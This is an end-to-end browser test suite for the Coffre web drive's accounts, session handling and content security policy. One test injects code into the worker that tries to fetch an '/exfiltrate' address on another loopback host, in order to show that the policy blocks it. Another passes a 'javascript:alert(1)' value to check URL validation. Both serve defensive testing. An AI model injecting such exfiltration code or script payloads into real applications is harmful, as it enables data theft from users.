// The web drive's accounts in real Chromium: the built web app against the built API on a
// fresh Postgres database, all on loopback. Crypto runs in the app's worker, exactly as shipped.
import { mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '@coffre/testing/chromium';
import { findAccessibilityViolations } from '../src/axe.ts';
import {
  confirmRecoveryKey,
  logIn,
  logOut,
  readStoredSession,
  RECOVERY_KEY_PATTERN,
  signUp,
  strongPassword,
  submitLogin,
  submitSignup,
  uniqueEmail,
} from '../src/drive-pages.ts';
import { type PageWatch, watchPage } from '../src/page-watch.ts';
import { appDir, SCREENSHOT_DIR } from '../src/paths.ts';
import { serveNextApp } from '../src/serve.ts';
import { startWebStack, type WebStack } from '../src/web-stack.ts';

/** Polls wait this long: OPAQUE with Argon2id takes seconds on a busy two-core machine. */
const SLOW = { timeout: 20_000 };

let stack: WebStack;
let browser: Browser;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  mkdirSync(SCREENSHOT_DIR, { recursive: true });
  stack = await startWebStack();
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

afterEach(async () => {
  for (const context of contexts.splice(0)) await context.close();
});

/** A fresh browser profile (its own IndexedDB) with its page watched. */
async function openBrowser(): Promise<{ page: Page; watch: PageWatch; context: BrowserContext }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  contexts.push(context);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stack.web.url });
  const page = await context.newPage();
  return { page, watch: await watchPage(page), context };
}

/** Saves a screenshot of the screen and checks it with axe. */
async function checkScreen(page: Page, name: string): Promise<void> {
  await page.waitForLoadState('networkidle');
  // After a client-side navigation Next.js sets the new page's title a moment after its content.
  await page.waitForFunction(() => document.title.trim() !== '', undefined, { timeout: 10_000 });
  await page.screenshot({ path: path.join(SCREENSHOT_DIR, `web-${name}.png`), fullPage: true });
  expect(await findAccessibilityViolations(page), `accessibility of ${name}`).toEqual([]);
}

/**
 * The page's error message. Not `getByRole('alert')`: Next.js's route announcer is an alert too,
 * reading out the title of each page navigated to.
 */
function errorAlert(page: Page) {
  return page.locator('.coffre-alert--error');
}

/** Nothing the page or its worker did was refused by the CSP, threw, or left the machine. */
function expectCleanRun(watch: PageWatch): void {
  expect(watch.consoleErrors).toEqual([]);
  expect(watch.pageErrors).toEqual([]);
  expect(watch.offsiteRequests).toEqual([]);
}

describe('web drive accounts', () => {
  it('signs up, insists the recovery key is saved, survives a reload, signs out and in, lists and revokes sessions', async () => {
    const email = uniqueEmail('journey');
    const password = strongPassword();
    const { page, watch, context } = await openBrowser();
    let token: string | undefined;
    page.on('response', async (response) => {
      if (response.url().endsWith('/api/auth/login/finish') && response.ok()) token = ((await response.json()) as { token: string }).token;
    });

    await page.goto(`${stack.web.url}/signup`);
    await page.getByLabel('Password', { exact: true }).fill(password);
    await expect.poll(() => page.locator('.coffre-strength__text').textContent(), SLOW).toMatch(/Strength: (Good|Strong)/);
    await checkScreen(page, 'signup');

    const recoveryKey = await submitSignup(page, stack.web.url, email, password);
    expect(recoveryKey).toMatch(RECOVERY_KEY_PATTERN);
    await checkScreen(page, 'recovery-key');

    // Continuing without confirming is refused, and the key stays on screen.
    await page.getByRole('button', { name: 'Continue to my drive' }).click();
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('Confirm that you saved your recovery key');
    expect(page.url()).toMatch(/\/signup\/recovery-key$/);

    // Both ways of keeping it carry the exact key.
    await page.getByRole('button', { name: 'Copy' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText()), SLOW).toBe(recoveryKey);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download as a text file' }).click()]);
    expect(download.suggestedFilename()).toBe('coffre-recovery-key.txt');
    const file = readFileSync(await download.path(), 'utf8');
    expect(file).toContain(recoveryKey);
    expect(file).toContain(email);

    // A reload before confirming shows the same key again instead of losing it.
    await page.reload();
    await expect.poll(() => page.locator('#recovery-key').textContent(), SLOW).toBe(recoveryKey);
    // Leaving for the drive first leads back to the key.
    await page.goto(`${stack.web.url}/drive`);
    await page.waitForURL('**/signup/recovery-key');

    await confirmRecoveryKey(page);
    await expect.poll(() => page.locator('.coffre-usage__text').textContent(), SLOW).toMatch(/^0 bytes of \d+(\.\d)? [KMGT]B used$/);
    await checkScreen(page, 'drive');

    // Keys and token are kept only sealed, under a key the page can use but not read.
    const stored = await readStoredSession(page);
    expect(stored).toMatchObject({ version: 1, keyType: '[object CryptoKey]', extractable: false, algorithm: 'AES-GCM', exportAttempt: 'InvalidAccessError' });
    expect(token).toMatch(/^[A-Za-z0-9_-]{20,}$/);
    for (const secret of [token!, email, recoveryKey, recoveryKey.replaceAll('-', '')]) expect(stored!.ciphertext).not.toContain(secret);
    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie])).toEqual([0, 0, '']);
    expect(await context.cookies()).toEqual([]);

    // A reload keeps the session: the worker restores it from IndexedDB.
    await page.reload();
    await page.getByRole('heading', { level: 1, name: 'My drive' }).waitFor();
    expect(page.url()).toMatch(/\/drive$/);
    expect(await page.locator('.coffre-app__email').textContent()).toBe(email);

    await logOut(page);
    expect(await page.getByRole('status').first().textContent()).toContain('You are signed out');
    expect(await readStoredSession(page)).toBeNull();
    // Signed out, the drive sends people to sign in, and back afterwards.
    await page.goto(`${stack.web.url}/settings/sessions`);
    await page.waitForURL(/\/login\?next=%2Fsettings%2Fsessions$/);
    await checkScreen(page, 'login');

    // A second device signs in too; then this one, straight back to the page it asked for.
    const other = await openBrowser();
    await logIn(other.page, stack.web.url, email, password);
    await page.getByLabel('Email').fill(email);
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.waitForURL('**/settings/sessions');

    const rows = page.locator('tbody tr');
    await expect.poll(() => rows.count(), SLOW).toBe(2);
    expect(await rows.nth(0).textContent()).toContain('This device');
    expect(await rows.nth(0).textContent()).toContain('Headless Chrome on Linux');
    expect(await rows.nth(0).textContent()).toContain('127.0.0.1');
    expect(await rows.nth(1).textContent()).not.toContain('This device');
    await checkScreen(page, 'sessions');

    await page.getByRole('button', { name: /^End session on Headless Chrome on Linux/ }).click();
    await expect.poll(() => rows.count(), SLOW).toBe(1);
    await expect.poll(() => page.getByRole('status').filter({ hasText: 'has ended' }).count(), SLOW).toBe(1);

    // The revoked device finds out at its next request, and is sent to sign in again.
    await other.page.reload();
    await other.page.waitForURL(/\/login\?notice=expired&next=%2Fdrive$/);
    expect(await other.page.getByText('Your session has ended').count()).toBe(1);
    expect(await readStoredSession(other.page)).toBeNull();

    expectCleanRun(watch);
    expectCleanRun(other.watch);
  }, 180_000);

  it('tells a wrong password, an unknown email and a taken email apart from success, and keeps nobody signed in', async () => {
    const email = uniqueEmail('wrong');
    const password = strongPassword();
    const { page, watch } = await openBrowser();
    await signUp(page, stack.web.url, email, password);
    await logOut(page);

    for (const [address, attempt] of [
      [email, `${password}!`],
      [uniqueEmail('nobody'), password],
    ] as const) {
      await submitLogin(page, stack.web.url, address, attempt);
      await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The email or password is not correct.');
      expect(page.url()).toMatch(/\/login$/);
      // The password field is cleared for the next try; the error has the focus.
      expect(await page.getByLabel('Password').inputValue()).toBe('');
      expect(await page.evaluate(() => document.activeElement?.getAttribute('role'))).toBe('alert');
      expect(await readStoredSession(page)).toBeNull();
    }
    await checkScreen(page, 'login-error');

    // Signing up again with the same email is refused, with a way out.
    await page.goto(`${stack.web.url}/signup`);
    await page.getByLabel('Email').fill(email);
    await page.getByLabel('Password', { exact: true }).fill(password);
    await page.getByLabel('Password, again').fill(password);
    await page.getByRole('button', { name: 'Create account' }).click();
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('An account with this email already exists');
    expect(page.url()).toMatch(/\/signup$/);
    expectCleanRun(watch);
  }, 120_000);

  it('keeps the page responsive while the worker runs OPAQUE and Argon2id', async () => {
    const { page, watch } = await openBrowser();
    await page.goto(`${stack.web.url}/signup`);
    await page.waitForLoadState('networkidle');
    // Long tasks (50 ms or more on the main thread) from here on, i.e. during the sign-up itself.
    await page.evaluate(() => {
      const tasks: number[] = [];
      (window as unknown as { longTasks: number[] }).longTasks = tasks;
      new PerformanceObserver((list) => tasks.push(...list.getEntries().map((entry) => entry.duration))).observe({ type: 'longtask' });
    });
    // The observer must see a long task when there is one, or the check below proves nothing.
    await page.evaluate(() => {
      // A task of the page's own: the evaluation itself is not one the page's scheduler times.
      setTimeout(() => {
        const until = performance.now() + 150;
        while (performance.now() < until);
      });
    });
    const longTasks = () => page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
    await expect.poll(async () => Math.max(0, ...(await longTasks())), SLOW).toBeGreaterThanOrEqual(140);
    await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks.splice(0));
    const email = uniqueEmail('responsive');
    const password = strongPassword();
    await page.getByLabel('Email').fill(email);
    await page.getByLabel('Password', { exact: true }).fill(password);
    await page.getByLabel('Password, again').fill(password);
    const started = Date.now();
    await page.getByRole('button', { name: 'Create account' }).click();
    await page.locator('#recovery-key').waitFor({ timeout: 30_000 });
    const elapsed = Date.now() - started;
    const longest = Math.max(0, ...(await longTasks()));
    console.log(`sign-up in the browser: ${elapsed} ms; longest main-thread task meanwhile: ${Math.round(longest)} ms`);
    // Argon2id alone takes hundreds of milliseconds; on the main thread it would be one long task.
    expect(longest).toBeLessThan(250);
    expectCleanRun(watch);
  }, 60_000);

  it('checks new passwords before anything is sent', async () => {
    const { page, context } = await openBrowser();
    const apiCalls: string[] = [];
    context.on('request', (request) => {
      if (request.url().startsWith(stack.api.url)) apiCalls.push(request.url());
    });
    await page.goto(`${stack.web.url}/signup`);
    await page.getByLabel('Email').fill('not an email');
    await page.getByLabel('Password', { exact: true }).fill('password123');
    await page.getByLabel('Password, again').fill('password123');
    await page.getByRole('button', { name: 'Create account' }).click();
    expect(await page.getByText('Enter an email address').count()).toBe(1);
    expect(await page.getByText('This password is too easy to guess').count()).toBe(1);
    expect(await page.getByLabel('Email').getAttribute('aria-invalid')).toBe('true');

    await page.getByLabel('Email').fill(uniqueEmail('mismatch'));
    await page.getByLabel('Password', { exact: true }).fill('violet harbour lantern meadow');
    await page.getByLabel('Password, again').fill('violet harbour lantern meadows');
    await page.getByRole('button', { name: 'Create account' }).click();
    expect(await page.getByText('The two passwords are not the same.').count()).toBe(1);
    await checkScreen(page, 'signup-errors');
    expect(apiCalls).toEqual([]);
  }, 60_000);

  it('recovers an account with the recovery key: typos and wrong keys are refused, the new password works, the old does not', async () => {
    const email = uniqueEmail('recover');
    const oldPassword = strongPassword();
    const newPassword = strongPassword();
    const { page, watch } = await openBrowser();
    const recoveryKey = await signUp(page, stack.web.url, email, oldPassword);
    await logOut(page);
    // Another account's key is a valid key, just not this account's.
    const stranger = await openBrowser();
    const strangersKey = await signUp(stranger.page, stack.web.url, uniqueEmail('stranger'), strongPassword());

    await page.getByRole('link', { name: 'Forgot your password?' }).click();
    await page.waitForURL('**/recover');
    await checkScreen(page, 'recover');

    const attempt = async (key: string) => {
      await page.getByLabel('Email').fill(email);
      await page.getByLabel('Recovery key').fill(key);
      await page.getByLabel('New password', { exact: true }).fill(newPassword);
      await page.getByLabel('New password, again').fill(newPassword);
      await page.getByRole('button', { name: 'Recover and set the new password' }).click();
    };
    const typo = `${recoveryKey.slice(0, 7)}${recoveryKey[7] === '0' ? '1' : '0'}${recoveryKey.slice(8)}`;
    await attempt(typo);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('Group 2 of the recovery key has a typo');
    await attempt(strangersKey);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('This recovery key does not belong to this account.');
    expect(page.url()).toMatch(/\/recover$/);

    // Typed the way people type: lower case, spaces instead of dashes.
    await attempt(recoveryKey.toLowerCase().replaceAll('-', ' '));
    await page.waitForURL('**/drive?notice=recovered');
    expect(await page.getByText('Account recovered').count()).toBe(1);
    await checkScreen(page, 'recovered');

    await logOut(page);
    await submitLogin(page, stack.web.url, email, oldPassword);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The email or password is not correct.');
    await logIn(page, stack.web.url, email, newPassword);
    expectCleanRun(watch);
  }, 180_000);

  it('changes the password: the current one must be right, other sessions end, the new one signs in', async () => {
    const email = uniqueEmail('change');
    const oldPassword = strongPassword();
    const newPassword = strongPassword();
    const { page, watch } = await openBrowser();
    await signUp(page, stack.web.url, email, oldPassword);
    const other = await openBrowser();
    await logIn(other.page, stack.web.url, email, oldPassword);

    await page.getByRole('link', { name: 'Password' }).click();
    await page.waitForURL('**/settings/password');
    const change = async (current: string) => {
      await page.getByLabel('Current password').fill(current);
      await page.getByLabel('New password', { exact: true }).fill(newPassword);
      await page.getByLabel('New password, again').fill(newPassword);
      await page.getByRole('button', { name: 'Change password' }).click();
    };
    await change(`${oldPassword}?`);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The current password is not correct.');
    // A wrong current password is not a lost session: still signed in.
    expect(page.url()).toMatch(/\/settings\/password$/);
    expect(await readStoredSession(page)).not.toBeNull();

    await change(oldPassword);
    await expect.poll(() => page.getByRole('status').filter({ hasText: 'Password changed' }).count(), SLOW).toBe(1);
    await checkScreen(page, 'password');

    await other.page.reload();
    await other.page.waitForURL(/\/login\?notice=expired/);

    await logOut(page);
    await submitLogin(page, stack.web.url, email, oldPassword);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The email or password is not correct.');
    await logIn(page, stack.web.url, email, newPassword);
    expectCleanRun(watch);
  }, 180_000);

  it('deletes the account only with the password and the acknowledgement; it cannot sign in afterwards', async () => {
    const email = uniqueEmail('delete');
    const password = strongPassword();
    const { page, watch } = await openBrowser();
    await signUp(page, stack.web.url, email, password);
    await page.getByRole('link', { name: 'Delete account' }).click();
    await page.waitForURL('**/settings/delete-account');
    await checkScreen(page, 'delete-account');

    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Delete my account' }).click();
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('Tick the box');

    await page.getByLabel('I understand').check();
    await page.getByLabel('Password').fill(`${password}x`);
    await page.getByRole('button', { name: 'Delete my account' }).click();
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The password is not correct. The account was not deleted.');
    expect(await stack.database.prisma.account.count({ where: { email, deletedAt: null } })).toBe(1);

    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Delete my account' }).click();
    await page.waitForURL('**/login?notice=deleted');
    expect(await page.getByText('Your account and everything stored in it have been deleted.').count()).toBe(1);
    expect(await readStoredSession(page)).toBeNull();
    expect(await stack.database.prisma.account.count({ where: { email, deletedAt: null } })).toBe(0);

    await submitLogin(page, stack.web.url, email, password);
    await expect.poll(() => errorAlert(page).textContent(), SLOW).toContain('The email or password is not correct.');
    expectCleanRun(watch);
  }, 120_000);

  it('can be used with the keyboard alone', async () => {
    const email = uniqueEmail('keyboard');
    const password = strongPassword();
    const { page, watch } = await openBrowser();
    await signUp(page, stack.web.url, email, password);
    await logOut(page);

    await page.getByLabel('Email').focus();
    await page.keyboard.type(email);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('login-password');
    await page.keyboard.type(password);
    await page.keyboard.press('Enter');
    await page.waitForURL('**/drive');
    await page.reload();
    await page.getByRole('heading', { level: 1, name: 'My drive' }).waitFor();

    // The skip link comes first and lands in main; the navigation follows the account controls.
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('main');
    await page.getByRole('link', { name: 'Sessions' }).focus();
    await page.keyboard.press('Enter');
    await page.waitForURL('**/settings/sessions');
    expect(await page.getByRole('link', { name: 'Sessions' }).getAttribute('aria-current')).toBe('page');
    expectCleanRun(watch);
  }, 120_000);
});

describe('web drive security', () => {
  it('gives the worker a policy of its own: WebAssembly, its own scripts and the API, nothing else', async () => {
    const { page, watch } = await openBrowser();
    const workerPolicies: (string | undefined)[] = [];
    page.on('response', (response) => {
      if (response.url().includes('/turbopack-worker-')) workerPolicies.push(response.headers()['content-security-policy']);
    });
    await page.goto(`${stack.web.url}/login`);
    const worker = await page.waitForEvent('worker');
    expect(new URL(worker.url()).origin).toBe(stack.web.url);
    await expect.poll(() => workerPolicies.length, SLOW).toBe(1);
    expect(workerPolicies[0]).toBe(`default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src ${stack.api.url}`);
    const pagePolicy = (await page.request.get(`${stack.web.url}/login`)).headers()['content-security-policy'] ?? '';
    expect(pagePolicy).toContain(`connect-src 'self' ${stack.api.url};`);
    expect(pagePolicy).toContain("worker-src 'self';");
    expect(pagePolicy).toContain('trusted-types default');
    expectCleanRun(watch);
  }, 60_000);

  it("refuses a worker's request to any origin but the API's", async () => {
    const { page, watch } = await openBrowser();
    // Code slipped into the worker (here by rewriting its script on the way) tries to reach
    // another server on this machine; the worker's own policy stops it.
    await page.route('**/_next/static/chunks/turbopack-worker-*.js', async (route) => {
      // Fetched again from here, the request lacks the browser's Sec-Fetch-Dest, which is what
      // makes the server attach the worker's policy: put it back.
      const original = await route.fetch({ headers: { ...route.request().headers(), 'sec-fetch-dest': 'worker' } });
      expect(original.headers()['content-security-policy']).toContain('connect-src http://127.0.0.1:');
      const attempt = "fetch('http://127.0.0.2:9/exfiltrate').then(() => console.log('reached'), () => console.log('refused'))";
      // Run once the worker is serving (the page's first request), as injected code would.
      const body = `${await original.text()}\n;self.addEventListener('message', () => ${attempt}, { once: true });`;
      await route.fulfill({ response: original, body });
    });
    const logged: string[] = [];
    page.on('console', (message) => logged.push(message.text()));
    await page.goto(`${stack.web.url}/login`);
    await expect.poll(() => logged.includes('refused'), SLOW).toBe(true);
    expect(logged).not.toContain('reached');
    // The worker reports the violation itself (Chromium does not surface a worker's own CSP
    // messages to the page's console).
    expect(watch.consoleErrors).toEqual(['Content Security Policy violation in the account worker: connect-src blocked http://127.0.0.2:9/exfiltrate']);
  }, 60_000);

  it('lets the web drive, and only it, call the API across origins, with preflights cached', async () => {
    const preflight = (origin: string) =>
      fetch(`${stack.api.url}/api/auth/sessions`, {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' },
      });
    const allowed = await preflight(stack.web.url);
    expect(allowed.status).toBe(204);
    expect(allowed.headers.get('access-control-allow-origin')).toBe(stack.web.url);
    expect(allowed.headers.get('access-control-allow-headers')).toMatch(/authorization/i);
    expect(allowed.headers.get('access-control-max-age')).toBe('600');
    const refused = await preflight('http://127.0.0.1:1');
    expect(refused.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('sends every account page with a nonce policy, and loads nothing from elsewhere', async () => {
    const { page, watch } = await openBrowser();
    for (const pathname of ['/login', '/signup', '/recover', '/signup/recovery-key', '/drive', '/settings/sessions']) {
      const response = await page.goto(`${stack.web.url}${pathname}`);
      expect(response?.headers()['content-security-policy'], pathname).toMatch(/script-src 'nonce-[A-Za-z0-9+/]{22}==' 'strict-dynamic'/);
      await page.waitForLoadState('networkidle');
    }
    // Signed out, the signed-in pages have sent the browser to sign in.
    expect(page.url()).toMatch(/\/login\?next=%2Fsettings%2Fsessions$/);
    expectCleanRun(watch);
  }, 60_000);
});

describe('web drive configuration', () => {
  it('will not start with an invalid API address, and says why', async () => {
    await expect(serveNextApp(appDir('web'), { env: { COFFRE_API_URL: 'javascript:alert(1)' } })).rejects.toThrow(
      /exited with code 1 before answering:[\s\S]*COFFRE_API_URL: must be a http:\/\/ or https:\/\/ URL/,
    );
  }, 60_000);
});
